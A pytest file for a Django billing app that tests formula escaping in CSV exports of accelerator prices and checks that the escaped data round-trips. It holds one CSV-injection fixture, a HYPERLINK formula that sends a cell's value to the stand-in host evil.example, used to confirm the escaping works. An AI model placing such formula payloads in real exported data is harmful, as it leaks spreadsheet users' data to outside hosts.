"""Every CSV export is formula-escaped through one path (dashboard/kit/csv_export.py), the price book's too."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from billing.models import AcceleratorPrice
from billing.prices.pricebook import export_price_csv, load_price_csv
from tests.conftest import World

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"list price")'


def test_the_price_book_export_escapes_formulas_and_loads_back_as_typed(world: World) -> None:
    AcceleratorPrice.objects.create(
        accelerator_type="GPU_8xH100", region="us-west-2", effective_from=datetime(2026, 1, 1, tzinfo=UTC),
        usd_per_hour=Decimal("6.88"), source=FORMULA,
    )  # fmt: skip

    # Every user may download it: alice is a plain member.
    text = world.client_for(world.alice).get(reverse("price_export")).content.decode()

    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["source"] == "'" + FORMULA
    assert row["usd_per_hour"] == "6.88"
    AcceleratorPrice.objects.all().delete()
    result = load_price_csv(io.StringIO(text))
    assert not result.errors
    assert AcceleratorPrice.objects.get().source == FORMULA


def test_the_file_export_and_the_download_are_the_same_bytes(world: World) -> None:
    AcceleratorPrice.objects.create(
        accelerator_type="GPU_1xA10", region="us-east-1", effective_from=datetime(2026, 1, 1, tzinfo=UTC),
        usd_per_hour=Decimal("1.2"), source="-list",
    )  # fmt: skip
    out = io.StringIO()
    assert export_price_csv(out) == 1
    assert "'-list" in out.getvalue()
    assert world.client_for(world.bob).get(reverse("price_export")).content.decode() == out.getvalue()
